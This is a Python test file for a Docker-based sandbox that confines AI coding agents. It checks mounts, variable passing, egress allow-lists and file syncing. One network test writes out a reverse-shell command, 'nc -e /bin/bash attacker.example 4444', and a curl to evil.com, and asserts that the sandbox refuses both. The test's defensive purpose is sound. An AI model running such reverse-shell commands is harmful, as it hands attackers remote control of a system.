"""Docker Sandboxes by a fake CLI: folders, hosts, files and the life of a machine."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from ralphproof.base.value import replace
from ralphproof.engine.sandbox import Command
from ralphproof.sandbox.docker_sandbox import (
    DockerSandbox,
    find_stale_files,
    guest_home_links,
    guest_hosts,
    guest_variable_names,
    guest_workspaces,
    sandbox_name,
    scan_project_files,
    wait_until_unchanged,
)
from ralphproof.sandbox.plan import (
    DEV_NULL,
    EMPTY_FOLDER,
    PROXY_BUILT_IN,
    READ_ONLY,
    WRITABLE,
    EgressPolicy,
    Mount,
    SandboxPlan,
)
from tests.sandbox.fake_docker import REFUSED, FakeDocker


@pytest.fixture
def plan(tmp_path: Path) -> SandboxPlan:
    for name in ("project/src", "home/.pyenv", "home/data", "state/agents/claude", "beside", "state/cache"):
        (tmp_path / name).mkdir(parents=True)
    (tmp_path / "home/data/.npmrc").write_text("")
    mounts = (
        Mount(READ_ONLY, "/usr"),
        Mount(EMPTY_FOLDER, "/tmp"),
        Mount(EMPTY_FOLDER, f"{tmp_path}/home"),
        Mount(READ_ONLY, f"{tmp_path}/home/.pyenv"),
        Mount(READ_ONLY, f"{tmp_path}/home/data"),
        Mount(READ_ONLY, f"{tmp_path}/home/data/.npmrc", DEV_NULL),
        Mount(READ_ONLY, f"{tmp_path}/beside"),
        Mount(READ_ONLY, f"{tmp_path}/gone"),
        Mount(WRITABLE, f"{tmp_path}/state/cache"),
        Mount(WRITABLE, f"{tmp_path}/state/agents/claude"),
        Mount(WRITABLE, f"{tmp_path}/project"),
        Mount(READ_ONLY, f"{tmp_path}/project/src"),
    )
    return SandboxPlan(
        f"{tmp_path}/project",
        f"{tmp_path}/home",
        f"{tmp_path}/state/1.tmp",
        mounts,
        EgressPolicy(("a.test", "private:b.test:8080"), (5432,)),
        passed_variables=("LANG", "PATH", "DATA", "OTHER"),
        variables=(("CLAUDE_CONFIG_DIR", f"{tmp_path}/state/agents/claude"),),
    )


def test_folders_of_the_user_are_given_the_project_first_and_tools_are_not(plan: SandboxPlan, tmp_path: Path) -> None:
    assert guest_workspaces(plan) == (
        f"{tmp_path}/project",
        f"{tmp_path}/state/cache",
        f"{tmp_path}/state/agents/claude",
        f"{tmp_path}/home/data:ro",
        f"{tmp_path}/beside:ro",
    )


def test_variables_that_name_a_place_it_has_not_stay_outside(plan: SandboxPlan, tmp_path: Path) -> None:
    env = (("LANG", "C"), ("PATH", "/bin"), ("DATA", f"{tmp_path}/beside/x"), ("OTHER", f"{tmp_path}/elsewhere"))
    assert guest_variable_names(plan, env) == ("DATA", "LANG", "CLAUDE_CONFIG_DIR", "RALPH_TURN")


def test_hosts_are_told_without_our_marks_and_ports_as_localhost(plan: SandboxPlan) -> None:
    assert guest_hosts(plan) == ("a.test", "b.test:8080", "localhost:5432")


def test_settings_of_an_agent_are_begun_and_no_link_is_followed_to_do_so(plan: SandboxPlan, tmp_path: Path) -> None:
    own, target = tmp_path / "state/agents/claude", tmp_path / "home/.profile"
    (own / ".claude.json").symlink_to(target)
    assert dict(guest_home_links(plan, "claude")) == {".claude": str(own), ".claude.json": f"{own}/.claude.json"}
    assert not target.exists()
    assert (own / ".claude.json").read_text() == "{}\n"
    (own / ".claude.json").write_text('{"kept": 1}')
    guest_home_links(plan, "claude")
    assert (own / ".claude.json").read_text() == '{"kept": 1}'


KINDS = pytest.mark.parametrize("kind", ["docker", "sbx"])
HOSTS = ("api.anthropic.com", "*.example.org")


class Place:
    """A project, the agent's state, and a sandbox that a fake program plays."""

    def __init__(self, folder: Path, kind: str = "docker") -> None:
        self.folder, self.fake = folder, FakeDocker(folder / "fake")
        self.root, self.state = folder / "project", folder / "store" / "agents" / "claude"
        for made in (self.root, self.state, folder / "home"):
            made.mkdir(parents=True)
        self.environ = self.fake.environ(kind, HOME=str(folder / "home"), RALPH_STATE_DIR=str(folder / "state"))
        self.sandbox = self.again(kind)
        self.plan = self.boxed(Mount(WRITABLE, str(self.state)), variables=(("CLAUDE_CONFIG_DIR", str(self.state)),))

    def again(self, kind: str = "docker") -> DockerSandbox:
        """As another process of ours would see it."""
        return DockerSandbox(kind, self.fake.path(kind), self.environ, pause_s=0.01, answer_s=20.0)

    def boxed(self, *mounts: Mount, variables: tuple[tuple[str, str], ...] = (), turn: str = "1") -> SandboxPlan:
        machine = (Mount(READ_ONLY, "/usr"), Mount(READ_ONLY, "/etc"), Mount(EMPTY_FOLDER, "/tmp"))
        return SandboxPlan(
            str(self.root),
            str(self.folder / "home"),
            str(self.folder / "turns" / turn),
            (*machine, Mount(WRITABLE, str(self.root)), *mounts),
            EgressPolicy(HOSTS),
            passed_variables=("LANG", "KEY_*"),
            variables=(("HOME", str(self.folder / "home")), *variables),
        )

    def command(self, agent: str = "claude", **env: str) -> Command:
        given = tuple((self.environ | env).items())
        return Command(("x",), str(self.root), given, "", "", f"{self.folder}/mark", agent=agent)

    def run(self, *argv: str, agent: str = "claude", said: str = "", **env: str) -> subprocess.CompletedProcess[str]:
        """One command, as the sandbox's owner would run it."""
        command = self.command(agent, **env)
        assert self.sandbox.prepare(self.plan, command) == ""
        way = self.sandbox.entry(self.plan)
        full_env = dict(command.env) | {"RALPH_TURN": command.mark} | dict(self.plan.variables) | dict(way.env)
        ended = subprocess.run((*way.argv, *argv), env=full_env, input=said, capture_output=True, text=True, timeout=60)
        self.sandbox.clean_up(self.plan)
        return ended

    def asked(self, verb: str = "") -> list[list[str]]:
        return [call["argv"] for call in self.fake.calls(verb)]


@pytest.fixture
def place(tmp_path: Path) -> Place:
    return Place(tmp_path)


def until(condition: Callable[[], bool]) -> None:
    deadline = time.monotonic() + 20
    while not condition():
        assert time.monotonic() < deadline
        time.sleep(0.01)


# Made, set up, entered


def test_it_is_made_once_with_the_template_of_its_agent_and_the_project_first(place: Place) -> None:
    assert place.run("true").returncode == 0
    assert place.run("true").returncode == 0
    name = sandbox_name(str(place.root), "claude")
    assert place.asked("create") == [["create", "--name", name, "claude", str(place.root), str(place.state)]]


@pytest.mark.parametrize(
    ("kind", "agent", "template"),
    [("docker", "codex", "codex"), ("sbx", "droid", "droid"), ("docker", "droid", "shell"), ("sbx", "amp", "shell")],
)
def test_an_agent_without_a_template_gets_a_plain_one(tmp_path: Path, kind: str, agent: str, template: str) -> None:
    place = Place(tmp_path, kind)
    assert place.run("true", agent=agent).returncode == 0
    assert place.asked("create")[0][3] == template


def test_the_agents_home_leads_to_a_state_folder_outside_that_holds_valid_settings(place: Place) -> None:
    done = place.run("sh", "-c", "readlink ~/.claude ~/.claude.json; cat ~/.claude.json; echo kept > ~/.claude/file")
    assert done.stdout.splitlines() == [str(place.state), f"{place.state}/.claude.json", "{}"]
    assert (place.state / "file").read_text() == "kept\n"
    set_up = next(argv for argv in place.asked("exec") if "-u" in argv)
    assert set_up[1:3] == ["-u", "root"]


def test_settings_that_an_agent_has_are_left_as_they_are(place: Place) -> None:
    (place.state / ".claude.json").write_text('{"a": 1}')
    assert place.run("sh", "-c", "cat ~/.claude.json").stdout == '{"a": 1}'


def test_a_place_that_is_shown_elsewhere_is_a_link(tmp_path: Path) -> None:
    place = Place(tmp_path)
    place.plan = place.boxed(Mount(WRITABLE, str(tmp_path / "home" / ".config" / "tool"), str(place.state)))
    assert place.run("sh", "-c", "readlink ~/.config/tool", agent="tool").stdout.strip() == str(place.state)


@pytest.mark.parametrize(
    ("own", "expected"),
    [(("Ada L.", "ada@example.org"), "Ada L.\nada@example.org\n"), (None, "Ralph Loop\nralph@localhost\n")],
)
def test_commits_carry_the_users_name_or_else_ours(place: Place, own: tuple[str, str] | None, expected: str) -> None:
    if own:
        (place.folder / "home" / ".gitconfig").write_text(f"[user]\n\tname = {own[0]}\n\temail = {own[1]}\n")
    done = place.run("sh", "-c", "git config --global user.name; git config --global user.email")
    assert done.stdout == expected


def test_a_commit_inside_is_a_commit_outside(place: Place) -> None:
    script = "git init -q . && echo x > file && git add . && git commit -qm done"
    assert place.run("sh", "-c", script).returncode == 0
    log = subprocess.run(["git", "log", "--format=%an %s"], cwd=place.root, capture_output=True, text=True, check=True)
    assert log.stdout == "Ralph Loop done\n"


def test_a_prompt_goes_in_by_stdin_and_an_exit_code_comes_out(place: Place) -> None:
    done = place.run("sh", "-c", "cat; echo oops >&2; exit 7", said="Respond with: OK")
    assert (done.stdout, done.stderr, done.returncode) == ("Respond with: OK", "oops\n", 7)


def test_secrets_travel_by_name_and_nothing_else_of_the_environment_comes_inside(place: Place) -> None:
    done = place.run("env", KEY_ONE="hidden-one", OTHER="hidden-two", KEY_FILE="/outside/of/everything")
    inside = dict(line.split("=", 1) for line in done.stdout.splitlines())
    assert inside["KEY_ONE"] == "hidden-one"
    assert inside["CLAUDE_CONFIG_DIR"] == str(place.state)
    assert inside["HOME"] != str(place.folder / "home")
    assert not {"OTHER", "KEY_FILE", "RALPH_STATE_DIR"} & set(inside)
    assert "hidden" not in json.dumps(place.asked())


def test_a_program_that_is_elsewhere_inside_is_found_by_its_name(place: Place) -> None:
    assert place.run("/opt/not/there/echo", "a b").stdout == "a b\n"


def test_it_is_entered_where_the_command_runs_and_has_a_proxy_of_its_own(place: Place) -> None:
    (place.root / "sub").mkdir()
    place.plan = replace(place.plan, cwd=str(place.root / "sub"))
    assert place.run("pwd").stdout.strip() == str(place.root / "sub")
    way = place.sandbox.entry(place.plan)
    assert (way.proxy_access, way.no_entrypoint) == (PROXY_BUILT_IN, True)


# A login outlives its sandbox


def test_a_login_outlives_the_sandbox(place: Place) -> None:
    agent = 'test -f ~/.claude/.credentials.json && echo OK || echo "Please run /login"'
    assert place.run("sh", "-c", agent).stdout == "Please run /login\n"
    assert place.run("sh", "-c", "echo {} > ~/.claude/.credentials.json").returncode == 0
    (name,) = place.fake.sandboxes()
    subprocess.run([place.fake.path("docker"), "sandbox", "rm", name], check=True, stdin=subprocess.DEVNULL)
    assert place.fake.sandboxes() == {}
    assert place.run("sh", "-c", agent).stdout == "OK\n"
    assert len(place.asked("create")) == 2


def test_a_sandbox_that_was_made_but_never_set_up_is_set_up(place: Place) -> None:
    name = sandbox_name(str(place.root), "claude")
    made = [place.fake.path("docker"), "sandbox", "create", "--name", name, "claude", str(place.root), str(place.state)]
    subprocess.run(made, check=True, stdin=subprocess.DEVNULL)
    assert place.run("sh", "-c", "git config --global user.email").stdout == "ralph@localhost\n"
    assert len(place.asked("create")) == 1
    assert place.fake.sandboxes()[name]["policy"]["policy"] == "deny"


# Names and folders


def test_no_two_projects_share_a_sandbox_and_no_name_begins_another() -> None:
    paths = ["/a/b", "/a/b2", "/a_b", "/a/b/c", "/x" * 200, "/x" * 201, "/ü", "/ö"]
    names = [sandbox_name(path, "claude") for path in paths]
    assert len(set(names)) == len(paths)
    assert not [(one, two) for one in names for two in names if one != two and two.startswith(one)]
    assert all(name.isascii() and len(name) < 64 and " " not in name for name in names)


def test_a_sandbox_whose_name_only_begins_alike_is_not_taken(place: Place) -> None:
    name = sandbox_name(str(place.root), "claude")
    other = [place.fake.path("docker"), "sandbox", "create", "--name", name + "-2", "claude", str(place.root)]
    subprocess.run(other, check=True, stdin=subprocess.DEVNULL)
    assert place.run("true").returncode == 0
    assert set(place.fake.sandboxes()) == {name, name + "-2"}


def test_folders_of_the_system_and_of_tools_are_not_shown_but_the_users_are_read_only(tmp_path: Path) -> None:
    place = Place(tmp_path)
    home, other = tmp_path / "home", tmp_path / "other"
    for made in (home / ".cargo", home / "library", other):
        made.mkdir()
    (tmp_path / "file").touch()
    reads = (home / ".cargo", home / "library", other, tmp_path / "file", Path(sys.base_prefix), place.root / ".git")
    plan = place.boxed(Mount(WRITABLE, str(place.state)), *(Mount(READ_ONLY, str(path)) for path in reads))
    assert guest_workspaces(plan) == (str(place.root), str(place.state), f"{home}/library:ro", f"{other}:ro")


@KINDS
def test_a_folder_that_is_wanted_later_has_it_made_anew_with_all_of_them(tmp_path: Path, kind: str) -> None:
    place, other = Place(tmp_path, kind), tmp_path / "other"
    other.mkdir()
    assert place.run("sh", "-c", "touch ~/.claude/kept").returncode == 0
    with_state, place.plan = place.plan, place.boxed(Mount(READ_ONLY, str(other)))
    assert place.run("true").returncode == 0
    place.plan = with_state
    assert place.run("ls", str(place.state)).stdout == "kept\n"
    assert [argv[-2:] for argv in place.asked("create")] == [
        [str(place.root), str(place.state)],
        [f"{other}:ro", str(place.state)],
    ]


def test_a_program_that_does_not_tell_folders_is_believed_to_have_what_it_was_given(place: Place) -> None:
    place.fake.options(quiet=True)
    assert place.run("true").returncode == 0
    assert place.run("true").returncode == 0
    assert len(place.asked("create")) == 1


def test_checks_run_where_the_agent_ran_also_for_a_later_process(place: Place) -> None:
    assert place.run("true").returncode == 0
    place.sandbox = place.again()
    assert place.run("sh", "-c", "echo checked > by", agent="").returncode == 0
    assert len(place.fake.sandboxes()) == 1
    assert (place.root / "by").read_text() == "checked\n"


# Network


def test_only_hosts_of_the_list_are_reached_from_the_first_command_on(place: Place) -> None:
    assert place.run("curl", "https://api.anthropic.com/v1").stdout == "200\n"
    assert place.run("curl", "https://a.example.org").returncode == 0
    evil = place.run("curl", "https://evil.com")
    assert (evil.returncode, evil.stdout) == (REFUSED, "")
    assert place.run("nc", "-e", "/bin/bash", "attacker.example", "4444").returncode != 0
    verbs = [argv[0] for argv in place.asked()]
    assert verbs.index("network") < verbs.index("exec")
    assert len(place.asked("network")) == 1


def test_an_empty_list_reaches_nothing(place: Place) -> None:
    place.plan = replace(place.plan, egress=EgressPolicy())
    assert place.run("curl", "https://api.anthropic.com").returncode == REFUSED


def test_a_list_that_changes_is_told_and_what_it_lost_is_blocked(place: Place) -> None:
    assert place.run("curl", "https://api.anthropic.com").returncode == 0
    place.plan = replace(place.plan, egress=EgressPolicy(("registry.example.net",), (5432,)))
    assert place.run("curl", "https://registry.example.net").returncode == 0
    assert place.run("curl", "https://api.anthropic.com").returncode == REFUSED
    allowed = place.asked("network")[-1]
    assert allowed[3:5] == ["--policy", "deny"]
    assert "localhost:5432" in allowed


def test_an_agent_and_its_checks_do_not_take_each_others_hosts_away(place: Place) -> None:
    agents = place.plan
    checks = replace(place.plan, egress=EgressPolicy(("registry.example.net",)))
    for plan, agent in ((agents, "claude"), (checks, ""), (agents, "claude"), (checks, "")):
        place.plan = plan
        assert place.run("curl", "https://api.anthropic.com", agent=agent).returncode == 0
    assert len(place.asked("network")) == 2


def test_the_policy_of_a_whole_machine_is_never_changed(tmp_path: Path) -> None:
    place = Place(tmp_path, "sbx")
    place.fake.options(policy={"allow": ["*.anthropic.com:443", "example.org"], "deny": []})
    assert place.run("true").returncode == 0
    assert not [argv for argv in place.asked() if argv[0] in ("network", "policy")]
    assert (place.sandbox.strength, len(place.sandbox.weaknesses)) == ("partial", 2)
    assert Place(tmp_path / "other").sandbox.strength == "strong"


def test_hosts_are_written_as_the_proxy_wants_them(place: Place) -> None:
    plan = replace(place.plan, egress=EgressPolicy(("a.org", "private:b.lan:8443"), (80,)))
    assert guest_hosts(plan) == ("a.org", "b.lan:8443", "localhost:80")


# Files that were copied


@KINDS
def test_an_edit_made_during_a_pause_is_seen_by_the_next_command(tmp_path: Path, kind: str) -> None:
    place = Place(tmp_path, kind)
    (place.root / "file").write_text("first\n")
    assert place.run("cat", "file").stdout == "first\n"
    (place.root / "file").write_text("edited by a person\n")
    place.sandbox = place.again(kind)
    assert place.run("cat", "file").stdout == "edited by a person\n"
    assert len(place.asked("stop")) == 1


def test_without_a_stop_the_edit_would_be_ignored(place: Place) -> None:
    (place.root / "file").write_text("first\n")
    assert place.run("cat", "file").stdout == "first\n"
    (place.root / "file").write_text("edited\n")
    (name,) = place.fake.sandboxes()
    directly = [place.fake.path("docker"), "sandbox", "exec", name, "cat", "file"]
    seen = subprocess.run(directly, capture_output=True, text=True, stdin=subprocess.DEVNULL, check=True)
    assert seen.stdout == "first\n"
    assert (place.root / "file").read_text() == "edited\n"


def test_what_the_sandbox_itself_changed_needs_no_stop(place: Place) -> None:
    for text in ("one", "two", "three"):
        assert (
            place.run("sh", "-c", f"cat file 2>/dev/null; echo {text} > file; mkdir -p d; touch d/{text}").returncode
            == 0
        )
    assert place.asked("stop") == []
    assert (place.root / "file").read_text() == "three\n"


def test_a_file_that_is_new_outside_needs_no_stop_and_one_that_is_gone_does(place: Place) -> None:
    (place.root / "old").touch()
    assert place.run("true").returncode == 0
    (place.root / "new").write_text("new\n")
    assert place.run("cat", "new").stdout == "new\n"
    assert place.asked("stop") == []
    (place.root / "old").unlink()
    assert place.run("ls").stdout == "new\n"
    assert len(place.asked("stop")) == 1


def test_objects_of_git_are_not_looked_at(tmp_path: Path) -> None:
    (tmp_path / ".git" / "objects" / "ab").mkdir(parents=True)
    (tmp_path / ".git" / "objects" / "ab" / "cd").touch()
    (tmp_path / ".git" / "HEAD").touch()
    (tmp_path / "link").symlink_to("nowhere")
    assert set(scan_project_files(tmp_path.as_posix())) == {".git/HEAD", "link"}


def test_files_are_waited_for_until_two_looks_are_the_same(tmp_path: Path) -> None:
    late = iter(("a", "b"))
    pauses: list[float] = []

    def pause(seconds: float) -> None:
        pauses.append(seconds)
        if name := next(late, ""):
            (tmp_path / name).touch()

    assert set(wait_until_unchanged(str(tmp_path), 1.0, 10, pause)) == {"a", "b"}
    assert len(pauses) == 3


def test_files_that_never_rest_are_waited_for_ten_times(tmp_path: Path) -> None:
    pauses: list[float] = []

    def pause(seconds: float) -> None:
        pauses.append(seconds)
        (tmp_path / str(len(pauses))).touch()

    assert (
        find_stale_files(wait_until_unchanged(str(tmp_path), 1.0, 10, pause), scan_project_files(str(tmp_path))) == ()
    )
    assert len(pauses) == 10


# What is left behind


@pytest.mark.skipif(sys.platform != "linux", reason="what is inside is Linux")
def test_what_a_command_left_running_inside_is_ended_after_it(place: Place) -> None:
    command = place.command()
    assert place.sandbox.prepare(place.plan, command) == ""
    way = place.sandbox.entry(place.plan)
    script = f"echo $$ > {place.root}/pid; exec sleep 600"
    env = dict(command.env) | {"RALPH_TURN": command.mark}
    client = subprocess.Popen((*way.argv, "sh", "-c", script), env=env, stdin=subprocess.DEVNULL)
    until(lambda: (place.root / "pid").exists() and (place.root / "pid").read_text().endswith("\n"))
    pid = int((place.root / "pid").read_text())
    client.kill()
    client.wait()
    os.kill(pid, 0)
    place.sandbox.clean_up(place.plan)
    until(lambda: has_ended(pid))


def has_ended(pid: int) -> bool:
    """Whether it is gone, or only waits for somebody to take leave of it."""
    try:
        return Path(f"/proc/{pid}/stat").read_text().rpartition(")")[2].split()[0] == "Z"
    except OSError:
        return True


def test_a_command_that_is_taken_up_is_not_disturbed(place: Place) -> None:
    assert place.run("true").returncode == 0
    place.fake.forget_calls()
    (place.root / "file").touch()
    assert place.sandbox.prepare(place.plan, replace(place.command(), taken_up=True)) == ""
    assert place.asked() == []


# What is lacking


@KINDS
def test_nothing_is_lacking_where_the_program_answers(tmp_path: Path, kind: str) -> None:
    assert Place(tmp_path, kind).sandbox.problem() is None


def test_a_program_that_is_not_there_is_said(place: Place) -> None:
    problem = DockerSandbox("sbx", None, {}).problem()
    assert problem is not None
    assert "installed" in problem.why
    assert problem.remedy


def test_a_docker_without_sandboxes_is_not_taken_for_one_although_it_ends_well(place: Place) -> None:
    place.fake.options(plain=True)
    problem = place.sandbox.problem()
    assert problem is not None
    assert "docker sandbox does not answer" in problem.why
    assert "Docker Desktop" in problem.remedy


def test_a_program_that_asks_a_question_is_given_up_and_how_to_answer_it_is_said(tmp_path: Path) -> None:
    place = Place(tmp_path, "sbx")
    place.fake.options(prompts=True)
    problem = DockerSandbox("sbx", place.fake.path("sbx"), place.environ, answer_s=1.0).problem()
    assert problem is not None
    assert "did not finish in time" in problem.why
    assert "in a terminal" in problem.remedy


@pytest.mark.parametrize("verb", ["create", "network", "exec"])
def test_a_step_that_fails_is_told_in_one_line(place: Place, verb: str) -> None:
    broken = place.folder / "broken"
    broken.write_text(
        f'#!/bin/sh\ncase " $* " in *" {verb} "*) echo first; echo "no {verb} today" >&2; exit 1;; esac\n'
        f'exec "{place.fake.path("docker")}" "$@"\n'
    )
    broken.chmod(0o755)
    sandbox = DockerSandbox("docker", str(broken), place.environ, pause_s=0.01)
    why = sandbox.prepare(place.plan, place.command())
    assert why.endswith(f": no {verb} today")
    assert "\n" not in why


def test_variables_of_the_machine_do_not_come_inside(place: Place) -> None:
    env = [
        ("LANG", "C.UTF-8"),
        ("PATH", "/usr/bin"),
        ("KEY_A", "x"),
        ("KEY_P", f"{place.root}/a"),
        ("KEY_B", "/etc/b:/c"),
    ]
    assert guest_variable_names(place.plan, env) == ("KEY_A", "KEY_P", "LANG", "CLAUDE_CONFIG_DIR", "RALPH_TURN")
